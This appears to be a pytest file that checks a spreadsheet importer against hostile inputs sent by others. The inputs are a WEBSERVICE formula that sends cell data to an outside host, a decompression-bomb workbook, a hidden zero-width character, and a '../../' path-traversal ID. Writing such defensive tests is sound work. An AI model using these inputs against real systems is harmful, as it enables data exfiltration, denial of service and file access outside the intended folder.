"""A spreadsheet that somebody sends, to be taken in by ``import``."""

import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from support.spreadsheets import ROW, Rows, bring_back, edit, export, find, make_clone, read_files, write_rows


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    return make_clone(tmp_path, monkeypatch)


Capture = pytest.CaptureFixture[str]


def test_formula_in_a_cell(folder: Path, capsys: Capture) -> None:
    path = export(folder, "councils", "xlsx")
    before = read_files(folder)
    workbook = load_workbook(path)
    sheet = workbook.worksheets[0]
    column = [cell.value for cell in sheet[1]].index("notes") + 1
    sheet.cell(2, column).value = '=WEBSERVICE("https://example.org/?"&A1)'
    workbook.save(path)
    _, out, err = bring_back(path, capsys)
    assert "it holds a formula" in out + err
    assert read_files(folder) == before


def test_workbook_that_unpacks_to_gigabytes(folder: Path, capsys: Capture) -> None:
    path = export(folder, "councils", "xlsx")
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as parts,
        parts.open("xl/media/a", "w") as part,
    ):
        for _ in range(301):
            part.write(bytes(1_000_000))
    code, _, said = bring_back(path, capsys)
    assert code == 2
    assert "would unpack to" in said


def test_letters_that_cannot_be_seen(folder: Path, capsys: Capture) -> None:
    def hide(rows: Rows) -> None:
        find(rows, "norwich", "film")["summary"] = "any\u200bone may film"

    path = edit(export(folder), hide)
    _, out, err = bring_back(path, capsys)
    assert "it holds an invisible character (U+200B" in out + err
    assert not [text for text in read_files(folder).values() if "\u200b".encode() in text]


def test_row_that_names_another_file(folder: Path, capsys: Capture) -> None:
    path = write_rows(folder / "claims.csv", [{**ROW, "council_id": "../../norwich"}])
    before = sorted(folder.parent.rglob("*"))
    _, out, err = bring_back(path, capsys)
    assert "there is no council `../../norwich`" in out + err
    assert sorted(folder.parent.rglob("*")) == before


def test_rows_taken_out(folder: Path, capsys: Capture) -> None:
    before = read_files(folder)
    path = edit(export(folder), lambda rows: rows.__delitem__(slice(1, None)))
    _, out, err = bring_back(path, capsys)
    assert "not in your table; they stay" in out + err
    assert read_files(folder) == before
